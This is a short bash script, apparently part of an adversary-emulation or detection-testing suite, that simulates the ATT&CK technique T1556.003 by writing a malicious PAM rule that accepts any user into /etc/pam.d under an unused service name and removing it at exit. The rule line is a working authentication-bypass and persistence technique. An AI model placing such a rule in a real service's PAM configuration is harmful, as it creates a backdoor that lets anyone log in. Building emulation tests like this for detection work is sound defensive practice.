#!/bin/bash
# technique: T1556.003
# tactic: credential_access, defense_evasion, persistence
# what: a PAM stack that accepts anyone (pam_succeed_if uid >= 0) written into /etc/pam.d, for a
#       service name nothing uses (so it changes no real login)
# source: ART T1556.003 #1 "Malicious PAM rule"
# cleanup: the file is removed at exit
. "$(dirname "$0")/lib.sh"
vg_mkdir /etc/pam.d
f=/etc/pam.d/$VG_MARK
vg_on_exit "rm -f '$f'"
echo "auth sufficient pam_succeed_if.so uid >= 0" > "$f"
